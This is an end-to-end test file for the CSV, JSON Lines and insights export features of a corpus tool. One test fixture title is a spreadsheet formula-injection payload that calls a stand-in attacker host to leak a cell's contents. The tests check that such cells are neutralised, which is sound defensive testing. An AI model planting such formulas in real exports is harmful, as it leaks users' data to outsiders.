// End-to-end tests of the Export menu (issue 9 §4, issue 11 §3), from
// file://: the whole corpus and the current selection saved as JSON Lines
// and CSV (documents with their metadata, what their files stated, their
// text) and as insights JSON (the schema of `borderlines inspect`). Each file
// is downloaded and read back; a title that is a spreadsheet formula
// (`=HYPERLINK(…)`) and other cells starting with + - @ are neutralised in
// the CSV. Screenshots of the menu at 1280 and 360 px, light and dark.
//
// Usage: node tests/e2e/export.test.mjs [path/to/borderlines.html]
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { count, eq, expect, open_page, run, search, shots } from './harness.mjs';

const HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")';
const csv_quote = (s) => `"${s.replaceAll('"', '""')}"`;
const NEWS_CSV = [
  'title,text,date,source,url,author',
  [HOSTILE, 'Guards at Hyesan counted 1,047 crossings in 2019, officials said.', '2021-03-04', '+Border Wire', 'https://wire.example/a', '@someone'].map(csv_quote).join(','),
  ['Fence extended along the Tumen', 'Crews added forty kilometres of fence along the Tumen river.\n\n-5 degrees at night did not stop the work.', '2021-03-05', 'Ledger', 'https://ledger.example/b', 'Ana Reporter'].map(csv_quote).join(','),
].join('\r\n') + '\r\n';

/** RFC 4180 rows (quoted fields may hold commas, quotes and line breaks). */
function parse_csv(text) {
  const rows = [];
  let row = [], cell = '', quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { cell += '"'; i++; } else if (c === '"') quoted = false; else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') { row.push(cell); cell = ''; } else if (c === '\n') { row.push(cell); rows.push(row); row = []; cell = ''; } else if (c !== '\r') cell += c;
  }
  if (cell !== '' || row.length) { row.push(cell); rows.push(row); }
  return rows;
}

/** Clicks an export button; returns the file's name and text. */
async function download(page, testid) {
  if (!await page.isVisible(`[data-testid=${testid}]`)) await page.click('[data-testid=export-menu] > summary');
  const [file] = await Promise.all([page.waitForEvent('download', { timeout: 15000 }), page.click(`[data-testid=${testid}]`)]);
  return { name: file.suggestedFilename(), text: readFileSync(await file.path(), 'utf8') };
}

async function add_news(page) {
  await page.setInputFiles('[data-testid=add-documents]', [{ name: 'news.csv', mimeType: 'text/csv', buffer: Buffer.from(NEWS_CSV) }]);
  await page.waitForSelector('[data-testid=mapping-review]');
  await page.click('[data-testid=mapping-import]');
  await page.waitForFunction(() => /^Added/.test(document.querySelector('[data-testid=load-status] .load-summary')?.textContent ?? ''), null, { timeout: 60000 });
  eq(await count(page), '5 documents', 'the seeds and two rows');
}

run({
  async 'the corpus and the selection export as JSON Lines, CSV and insights JSON; formulas are neutralised'() {
    const { page, context, problems } = await open_page();
    await add_news(page);
    await page.click('[data-testid=export-menu] > summary');
    const menu = await page.textContent('[data-testid=export-menu]');
    expect(menu.includes('Whole corpus (5 documents)') && menu.includes('Current selection (5 documents)'), `counts in the menu: ${menu}`);

    // Whole corpus, JSON Lines: one object per document, with metadata.
    const jsonl = await download(page, 'export-corpus-jsonl');
    eq(jsonl.name, 'borderlines-corpus.jsonl', 'file name');
    const docs = jsonl.text.trim().split('\n').map((l) => JSON.parse(l));
    eq(docs.length, 5, 'one line per document');
    const hostile = docs.find((d) => d.id === 'news.csv:2');
    eq(hostile.title, HOSTILE, 'JSON keeps the title as written');
    eq(hostile.stated, { date: '2021-03-04', source: '+Border Wire', url: 'https://wire.example/a', author: '@someone' }, 'stated fields');
    eq(hostile.url, 'https://wire.example/a', 'url');
    eq(hostile.date, '2021-03-04', 'date');
    const fence = docs.find((d) => d.id === 'news.csv:3');
    eq(fence.text, 'Crews added forty kilometres of fence along the Tumen river.\n\n-5 degrees at night did not stop the work.', 'text, paragraphs kept');
    eq(fence.authors.length >= 0, true, 'authors listed');
    for (const d of docs) expect(typeof d.id === 'string' && typeof d.title === 'string' && typeof d.text === 'string' && d.text.length > 0, `complete record ${d.id}`);
    expect(docs.filter((d) => d.stated === null).length === 3, 'the seeds state nothing');
    eq(await page.textContent('[data-testid=export-note]'), 'Saved borderlines-corpus.jsonl: 5 documents.', 'said');

    // Whole corpus, CSV: the header, one row per document, no cell a formula.
    const csv = await download(page, 'export-corpus-csv');
    eq(csv.name, 'borderlines-corpus.csv', 'file name');
    const rows = parse_csv(csv.text.replace(/^\uFEFF/, ''));
    eq(rows[0], ['id', 'title', 'date', 'date_stated', 'source', 'authors', 'byline', 'url', 'stated_date', 'stated_source', 'stated_url', 'stated_author', 'words', 'text'], 'header');
    eq(rows.length, 6, 'header and five rows');
    const row = rows.find((r) => r[0] === 'news.csv:2');
    eq(row[1], `'${HOSTILE}`, 'the formula title starts with an apostrophe');
    eq(row[9], "'+Border Wire", 'a + cell too');
    eq(row[11], "'@someone", 'an @ cell too');
    for (const r of rows) for (const cell of r) expect(!/^[=+\-@\t\r]/.test(cell), `a cell starts a formula: ${cell}`);
    const fence_row = rows.find((r) => r[0] === 'news.csv:3');
    expect(fence_row[13].includes('\n\n-5 degrees at night'), 'a later paragraph starting with - stays inside its cell');

    // Whole corpus, insights: the inspect schema.
    const insights = await download(page, 'export-corpus-insights');
    eq(insights.name, 'borderlines-corpus-insights.json', 'file name');
    const report = JSON.parse(insights.text);
    // Version 2 since the world gazetteer (datelines, demonyms).
    eq(report.schema_version, 2, 'schema version');
    expect(report.generator.startsWith('borderlines '), 'generator');
    eq(report.documents.length, 5, 'every document');
    const entry = report.documents.find((d) => d.file === 'news.csv:2');
    eq(entry.document.title, HOSTILE, 'document in the report');
    expect(Array.isArray(entry.insights.figures) && entry.insights.metadata, 'insights in the report');
    expect(Array.isArray(report.claims) && Array.isArray(report.errors), 'claims and errors');

    // The current selection: one document.
    await search(page, 'hyesan crossings');
    await page.waitForFunction(() => document.querySelector('[data-testid=result-count]')?.textContent.startsWith('1 of 5'));
    const sel = await download(page, 'export-selection-jsonl');
    eq(sel.name, 'borderlines-selection.jsonl', 'file name');
    eq(sel.text.trim().split('\n').map((l) => JSON.parse(l).id), ['news.csv:2'], 'the selection only');
    expect((await page.textContent('[data-testid=export-menu]')).includes('Current selection (1 document)'), 'the menu counts the selection');
    const sel_csv = parse_csv((await download(page, 'export-selection-csv')).text.replace(/^\uFEFF/, ''));
    eq(sel_csv.length, 2, 'header and one row');
    eq(sel_csv[1][1], `'${HOSTILE}`, 'neutralised in the selection too');
    const sel_ins = JSON.parse((await download(page, 'export-selection-insights')).text);
    eq(sel_ins.documents.map((d) => d.file), ['news.csv:2'], 'insights of the selection');
    eq(sel_ins.claims, [], 'no claim links one document to itself');
    eq(await page.textContent('[data-testid=export-note]'), 'Saved borderlines-selection-insights.json: 1 document.', 'said');
    await page.screenshot({ path: join(shots, 'export-menu-1280-light.png') });
    await page.evaluate(() => { document.documentElement.dataset.theme = 'dark'; });
    await page.screenshot({ path: join(shots, 'export-menu-1280-dark.png') });
    await context.close();
    return problems;
  },

  // 14,000 documents exported on the page blocked it 0.8–2 s; from 1,000
  // documents on, the loading worker writes the file.
  async 'a corpus of 1,200 added documents is exported whole by the loading worker'() {
    const { page, context, problems } = await open_page();
    const files = Array.from({ length: 1200 }, (_, i) => ({ name: `note-${i}.txt`, mimeType: 'text/plain', buffer: Buffer.from(`Note ${i} from Hyesan\n\nGuards counted ${i} crossings of the Yalu river in week ${i}.`) }));
    await page.setInputFiles('[data-testid=add-documents]', files);
    await page.waitForFunction(() => /^Added/.test(document.querySelector('[data-testid=load-status] .load-summary')?.textContent ?? ''), null, { timeout: 120000 });
    eq(await count(page), '1,203 documents', 'the seeds and the notes');
    const jsonl = await download(page, 'export-corpus-jsonl');
    eq(await page.evaluate(() => window.__borderlines_export), 'worker', 'written by the loading worker');
    const ids = jsonl.text.trim().split('\n').map((l) => JSON.parse(l).id);
    eq(ids.length, 1203, 'one line per document');
    eq(new Set(ids).size, 1203, 'each document once');
    expect(ids.some((id) => id.includes('note-1199')), `the last note is there: ${ids.slice(-3)}`);
    const rows = parse_csv((await download(page, 'export-corpus-csv')).text.replace(/^\uFEFF/, ''));
    eq(rows.length, 1204, 'header and a row per document');
    const report = JSON.parse((await download(page, 'export-corpus-insights')).text);
    eq(report.documents.length, 1203, 'insights of every document');
    eq(await page.textContent('[data-testid=export-note]'), 'Saved borderlines-corpus-insights.json: 1,203 documents.', 'said');
    // A small selection is written on the page, at once.
    await search(page, '"week 1199"');
    await page.waitForFunction(() => document.querySelector('[data-testid=result-count]')?.textContent.startsWith('1 of'));
    eq((await download(page, 'export-selection-jsonl')).text.trim().split('\n').length, 1, 'the selection');
    eq(await page.evaluate(() => window.__borderlines_export), 'page', 'a small export is written on the page');
    await context.close();
    return problems;
  },

  async 'the export menu fits a phone screen and exports from there'() {
    const { page, context, problems } = await open_page(undefined, { width: 360, height: 780 });
    await page.click('[data-testid=export-menu] > summary');
    const box = await page.locator('[data-testid=export-menu] .export-options').boundingBox();
    expect(box && box.x >= 0 && box.x + box.width <= 360, `the menu is on screen: ${JSON.stringify(box)}`);
    await page.screenshot({ path: join(shots, 'export-menu-360-light.png') });
    await page.evaluate(() => { document.documentElement.dataset.theme = 'dark'; });
    await page.screenshot({ path: join(shots, 'export-menu-360-dark.png') });
    const { text } = await download(page, 'export-corpus-csv');
    eq(parse_csv(text.replace(/^\uFEFF/, '')).length, 4, 'the three seeds');
    await context.close();
    return problems;
  },
});
